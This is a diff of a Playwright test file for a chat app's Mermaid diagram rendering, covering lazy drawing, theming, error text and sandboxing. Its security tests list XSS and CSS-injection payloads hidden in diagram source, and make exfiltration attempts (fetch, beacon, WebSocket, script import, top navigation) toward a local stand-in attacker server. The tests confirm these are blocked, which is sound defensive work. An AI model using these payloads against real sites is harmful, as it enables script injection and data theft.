@@ -1,4 +1,6 @@
 // Diagrams in messages: drawn apart from the page, on text that nobody trusts.
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import AxeBuilder from '@axe-core/playwright';
 import type { Frame, Page } from '@playwright/test';
 import type { Thread } from '../../src/lib/api/chat-types';
@@ -29,10 +31,12 @@ async function threadWith(page: Page, ...answers: readonly string[]): Promise<st
   expect((await page.request.put(`/api/threads/${id}/messages`, { data: { messages: sent } })).ok()).toBe(true);
   return id;
 }
+// What is in its place until what draws it is loaded goes away under the hand that scrolls to it.
+const see = (page: Page, at: number): Promise<void> => expect(() => blocks(page).nth(at).scrollIntoViewIfNeeded({ timeout: 1000 })).toPass();
 // Each is drawn once it is on screen. Its size comes from its file only once that could be read.
 async function drawn(page: Page, at: number): Promise<void> {
   const block = blocks(page).nth(at);
-  await block.scrollIntoViewIfNeeded();
+  await see(page, at);
   const size = await block.getByRole('img').evaluate(async (image: HTMLImageElement) => (await image.decode(), [image.naturalWidth, image.naturalHeight]));
   expect(Math.min(...size)).toBeGreaterThan(50);
 }
@@ -42,6 +46,12 @@ async function wordsIn(page: Page, at: number): Promise<string> {
   const svg = decodeURIComponent(address.slice(address.indexOf(',') + 1));
   return svg.replace(/<style[\s\S]*?<\/style>/g, '').replace(/<[^>]*>/g, '');
 }
+
+// The frame's policy is what refuses, and says so.
+const onlyRefusals = (console: string[]): void => {
+  expect(console.filter((text) => !/violates the (?:following|document's) Content Security Policy|sandbox/.test(text))).toEqual([]);
+  console.length = 0;
+};
 
 test('are drawn, say what they are, and turn into their source and back', async ({ page }) => {
   await page.goto(`/c/${await threadWith(page, `Look:\n\n${fenced(flowchart)}\n\nand\n\n${fenced(sequence)}`)}`);
@@ -75,7 +85,7 @@ for (const colorScheme of ['light', 'dark'] as const) {
       await page.screenshot({ path: test.info().outputPath(`diagrams-${device.viewport.width}.png`) });
       await pictures(page).nth(1).scrollIntoViewIfNeeded();
       await page.screenshot({ path: test.info().outputPath(`diagrams-2-${device.viewport.width}.png`) });
-      await blocks(page).last().scrollIntoViewIfNeeded();
+      await see(page, 2);
       await page.screenshot({ path: test.info().outputPath(`diagrams-3-${device.viewport.width}.png`) });
       const { violations } = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']).analyze();
       expect(violations.map(({ id: rule, nodes }) => `${rule}: ${nodes.map((node) => node.target.join(' ')).join(' | ')}`)).toEqual([]);
@@ -83,4 +93,205 @@ for (const colorScheme of ['light', 'dark'] as const) {
     }
   });
 }
-void drawingFrame;
+
+test('are drawn once their block is finished, while the answer goes on', async ({ page }) => {
+  await page.goto('/c');
+  const { id } = (await (await page.request.post('/api/threads', { data: { model: 'lab/double@token-gap=30' } })).json()) as Thread;
+  await page.goto(`/c/${id}`);
+  const box = page.getByRole('textbox', { name: 'Message', exact: true });
+  await box.fill(`[answer Look:\n\n${fenced(sequence.replace(/\[.*?\]/g, ''))}\n\n${'and so on '.repeat(200)}]`);
+  await box.press('Enter');
+  await expect(blocks(page), 'what a person wrote stands as it was written').toHaveCount(1);
+  await expect(blocks(page)).toHaveAttribute('aria-busy', 'true');
+  await expect(pictures(page)).toHaveCount(0);
+  await drawn(page, 0);
+  await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
+  await page.getByRole('button', { name: 'Stop' }).click();
+  await expect(page.getByRole('button', { name: 'Continue' })).toBeVisible();
+  await expect(pictures(page)).toHaveCount(1);
+});
+
+test('follow the colours of the page', async ({ page }) => {
+  await page.emulateMedia({ colorScheme: 'light' });
+  await page.goto(`/c/${await threadWith(page, fenced(flowchart))}`);
+  await drawn(page, 0);
+  const light = await pictures(page).getAttribute('src');
+  await page.emulateMedia({ colorScheme: 'dark' });
+  await expect(pictures(page)).not.toHaveAttribute('src', light!);
+  await page.emulateMedia({ colorScheme: 'light' });
+  await expect(pictures(page)).toHaveAttribute('src', light!);
+});
+
+test('are drawn only where they are seen, and move nothing that is read', async ({ page }) => {
+  const words = Array.from({ length: 12 }, (_, at) => `Paragraph ${at}. ${'Words upon words. '.repeat(20)}`).join('\n\n');
+  const tall = `flowchart TD\n${Array.from({ length: 8 }, (_, at) => `  n${at} --> n${at + 1}`).join('\n')}`;
+  await page.goto(`/c/${await threadWith(page, `${words}\n\n${fenced(tall)}\n\nBehind it.\n\n${words}`)}`);
+  await expect(blocks(page)).toHaveCount(1);
+  const view = messages(page);
+  await expect.poll(() => view.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight)).toBeLessThan(3);
+  expect(drawingFrame(page), 'nothing is drawn out of sight').toBeUndefined();
+  const behind = view.getByText('Behind it.');
+  const before = await behind.evaluate((element) => {
+    const scrolled = element.closest<HTMLElement>('[role=region]')!;
+    scrolled.scrollTop += element.getBoundingClientRect().top - scrolled.getBoundingClientRect().top - 60; // so that only the end of the block shows
+    return element.getBoundingClientRect().top;
+  });
+  await expect(pictures(page)).toHaveCount(1);
+  expect((await blocks(page).boundingBox())!.height).toBeGreaterThan(500);
+  expect(Math.abs((await behind.boundingBox())!.y - before)).toBeLessThan(2);
+  await view.evaluate((element) => (element.scrollTop = element.scrollHeight));
+  await page.getByRole('link', { name: 'Library' }).click();
+  await expect(view).toHaveCount(0);
+  await page.goBack();
+  await expect(pictures(page), 'what was drawn is there at once').toHaveCount(1);
+});
+
+test('say in a sentence why they are not drawn, beside their source', async ({ page, console }) => {
+  const sources = ['flowchart LR\n  A --> --> B', 'no such thing\n  A --> B', `flowchart LR\n${'  A --> B\n'.repeat(2500)}`, `flowchart LR\n${'  A --> B\n'.repeat(301)}`, 'flowchart LR\n  A@{ img: "/icon.svg" }'];
+  await page.goto(`/c/${await threadWith(page, sources.map(fenced).join('\n\n'))}`);
+  const why = ['line 2 of its source is not understood', 'its first line names no kind of diagram', 'too large to be drawn', 'too large to be drawn', 'those are not loaded'];
+  for (let at = why.length - 1; at >= 0; at -= 1) {
+    const block = blocks(page).nth(at);
+    await see(page, at);
+    await expect(block.getByText(why[at]!)).toBeVisible();
+    await expect(block.locator('pre')).toHaveText(sources[at]!.trimEnd());
+    await expect(block.getByRole('img')).toHaveCount(0);
+  }
+  onlyRefusals(console);
+});
+
+// What `url` is to be told, by whatever a diagram may say.
+const attacks = (url: string): readonly string[] => [
+  'flowchart LR\n A-->B\n click A "javascript:alert(1)"',
+  'flowchart LR\n A-->B\n click A call alert(1)',
+  `flowchart LR\n A-->B\n click A href "${url}" "tip" _top`,
+  `flowchart LR\n A["<img src=x onerror=alert(1)>"]-->B["<img src='${url}'><iframe src='${url}'></iframe>"]`,
+  `flowchart LR\n A["<script>alert(1)</script><svg onload=alert(1)>"]-->B["<style>@import '${url}'</style><link rel=stylesheet href='${url}'>"]`,
+  `flowchart LR\n A["<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=${url} onerror=alert(1)&gt;'>"]-->B`,
+  `%%{init: {"securityLevel":"loose","htmlLabels":true,"flowchart":{"htmlLabels":true},"themeCSS":"@import url(${url});","themeVariables":{"primaryColor":"url(${url})"},"fontFamily":"x;} * {background:url(${url})} "}}%%\nflowchart LR\n A["<img src='${url}' onerror=alert(1)>"]-->B\n click A call alert(1)`,
+  `---\nconfig:\n  securityLevel: loose\n  secure: []\n  htmlLabels: true\n  themeCSS: "@import url(${url});"\n  dompurifyConfig: {ADD_TAGS: [script, iframe], ADD_ATTR: [onerror]}\n---\nflowchart LR\n A["<img src='${url}' onerror=alert(1)>"]-->B\n click A href "${url}"`,
+  '%%{init: {"__proto__": {"securityLevel": "loose"}, "constructor": {"prototype": {"securityLevel": "loose"}}}}%%\nflowchart LR\n A["<img src=x onerror=alert(1)>"]-->B\n click A call alert(1)',
+  `flowchart LR\n A-->B\n style A fill:url(${url}),background-image:url('${url}')`,
+  `flowchart LR\n A-->B\n classDef x fill:red,background-image:url("${url}")\n class A x`,
+  `flowchart LR\n A@{ img: "${url}", label: "x", w: 60, h: 60 }`,
+  `flowchart LR\n A@{ icon: "x:${url}", form: "square" }`,
+  'flowchart LR\n A["`**x** <img src=x onerror=alert(1)> [l](javascript:alert(1))`"]-->B["$$\\href{javascript:alert(1)}{x}<img src=x onerror=alert(1)>$$"]',
+  `sequenceDiagram\n participant A\n link A: Dash @ javascript:alert(1)\n links A: {"x": "${url}"}\n A->>A: <img src=${url} onerror=alert(1)>`,
+  `classDiagram\n class A~<img src=x onerror=alert(1)>~\n click A href "javascript:alert(1)"\n link A "${url}"`,
+  'stateDiagram-v2\n s1 : <img src=x onerror=alert(1)>\n [*] --> s1\n click s1 href "javascript:alert(1)"',
+  'gantt\n dateFormat YYYY-MM-DD\n section <img src=x onerror=alert(1)>\n A :a1, 2014-01-01, 3d\n click a1 call alert(1)',
+  'pie\n title <img src=x onerror=alert(1)>\n "<img src=x onerror=alert(1)>" : 3',
+  'journey\n title <script>alert(1)</script>\n section <img src=x onerror=alert(1)>\n <img src=x onerror=alert(1)>: 5: Me',
+  'mindmap\n root["<img src=x onerror=alert(1)>"]\n  A\n  ::icon(fa fa-book)',
+  `C4Context\n Person(a, "A", "B", $sprite="${url}", $link="${url}")`,
+  `---\nconfig:\n  kanban:\n    ticketBaseUrl: 'javascript:alert(1)//#TICKET#'\n---\nkanban\n a[Todo]\n  b["<img src=${url}>"]@{ ticket: MC-1 }`,
+  `flowchart LR\n accTitle: " onerror=alert(1) x="\n A["${'long '.repeat(3000)}"]`,
+];
+
+test.describe('whatever they say', () => {
+  let seen: string[] = [];
+  let url = '';
+  const attacker = createServer((request, response) => {
+    seen.push(request.url ?? '');
+    response.end();
+  });
+  test.beforeAll(async () => {
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    url = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/told`;
+  });
+  test.afterAll(() => void attacker.close());
+  test.beforeEach(({ page }) => {
+    seen = [];
+    page.on('dialog', (dialog) => {
+      seen.push(`a dialog: ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    page.context().on('page', () => seen.push('another page'));
+  });
+
+  test('they run nothing, and nobody is told anything', async ({ page, console }) => {
+    test.setTimeout(120_000);
+    const all = attacks(url);
+    await page.goto(`/c/${await threadWith(page, all.map(fenced).join('\n\n'))}`);
+    const address = page.url();
+    for (let at = all.length - 1; at >= 0; at -= 1) {
+      await see(page, at);
+      await expect(blocks(page).nth(at).getByRole('img').or(blocks(page).nth(at).getByText('This diagram')), all[at]).toBeVisible();
+      const picture = blocks(page).nth(at).getByRole('img');
+      if ((await picture.count()) === 0) continue;
+      const svg = decodeURIComponent((await picture.getAttribute('src'))!);
+      const marks = svg.match(/<style[\s\S]*?<\/style>|<[^>]*>/g)!.join('');
+      expect(marks.match(/<(?:a|image|script|iframe|img|link)[\s>]|\son\w+="|(?:href|src)="(?!#)|url\((?!#)|@import/g), all[at]).toBeNull();
+      await picture.click();
+    }
+    expect(await pictures(page).count()).toBeGreaterThan(all.length / 2);
+    expect(page.url()).toBe(address);
+    expect(seen).toEqual([]);
+    onlyRefusals(console);
+  });
+
+  test('the frame that draws them reaches nothing, even where it is made to run their code', async ({ page, console }) => {
+    await page.goto(`/c/${await threadWith(page, `${fenced(flowchart)}\n\n${fenced('flowchart LR\n A --> B')}`)}`);
+    await drawn(page, 1);
+    await page.evaluate(() => {
+      document.cookie = 'secret=1';
+      localStorage.setItem('secret', '1');
+    });
+    const frame = drawingFrame(page)!;
+    const answers = await frame.evaluate(async (target) => {
+      const told: Record<string, string> = {};
+      const tries: Record<string, () => unknown> = {
+        origin: () => globalThis.origin,
+        document: () => parent.document.title,
+        address: () => parent.location.href,
+        cookie: () => document.cookie,
+        storage: () => localStorage.getItem('secret'),
+        databases: () => indexedDB.open('x'),
+        session: async () => (await fetch('/api/session')).status,
+        address2: async () => (await fetch(new URL('/api/session', location.href))).status,
+        fetch: async () => (await fetch(target, { mode: 'no-cors' })).type,
+        beacon: () => navigator.sendBeacon(target, 'x'),
+        socket: () => new Promise((resolve, reject) => Object.assign(new WebSocket(target.replace('http', 'ws')), { onopen: resolve, onerror: reject })),
+        image: () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: target })),
+        script: () => new Promise((resolve, reject) => document.head.append(Object.assign(document.createElement('script'), { onload: resolve, onerror: reject, src: target }))),
+        module: () => import(target),
+        inline: () => (document.body.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.ran = true' })), (globalThis as { ran?: boolean }).ran ?? Promise.reject(new Error('not run'))),
+        style: () => new Promise((resolve, reject) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', onload: resolve, onerror: reject, href: target }))),
+        window: () => window.open(target) ?? Promise.reject(new Error('none')),
+        top: () => void (top!.location.href = target),
+        worker: () => new Promise((resolve, reject) => Object.assign(new Worker(`data:text/javascript,`), { onmessage: resolve, onerror: reject })),
+        eval: () => new Function('return 1')(),
+      };
+      for (const [name, attempt] of Object.entries(tries)) {
+        try {
+          told[name] = `done: ${String(await attempt())}`;
+        } catch (error) {
+          told[name] = 'refused';
+        }
+      }
+      const form = Object.assign(document.createElement('form'), { action: target, method: 'post' });
+      const inner = Object.assign(document.createElement('iframe'), { src: target });
+      document.body.append(form, inner, Object.assign(document.createElement('style'), { textContent: `body { background: url(${target}) } @import url(${target});` }));
+      form.submit();
+      alert(1);
+      return told;
+    }, url);
+    const { origin, beacon: _told, ...others } = answers;
+    expect(origin).toBe('done: null');
+    expect(Object.entries(others).filter(([, said]) => said !== 'refused')).toEqual([]);
+    // What it may yet do is go elsewhere itself: the page's policy does not let it.
+    await frame.evaluate((target) => void (location.href = `${target}?away`), url).catch(() => {});
+    await expect.poll(() => console.some((text) => /frame-src|default-src 'self'/.test(text))).toBe(true);
+    expect(seen).toEqual([]);
+    expect(new URL(page.url()).pathname).toMatch(/^\/c\//);
+    onlyRefusals(console);
+  });
+
+  test('the document that draws them says what it may, also where it is opened by itself', async ({ page }) => {
+    await page.goto(`/c/${await threadWith(page, fenced(flowchart))}`);
+    await drawn(page, 0);
+    const answer = await page.request.get(drawingFrame(page)!.url());
+    expect(answer.headers()['content-security-policy']).toBe("sandbox allow-scripts; default-src 'none'; script-src 'self'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'");
+    expect(answer.headers()['cache-control']).toContain('immutable');
+  });
+});
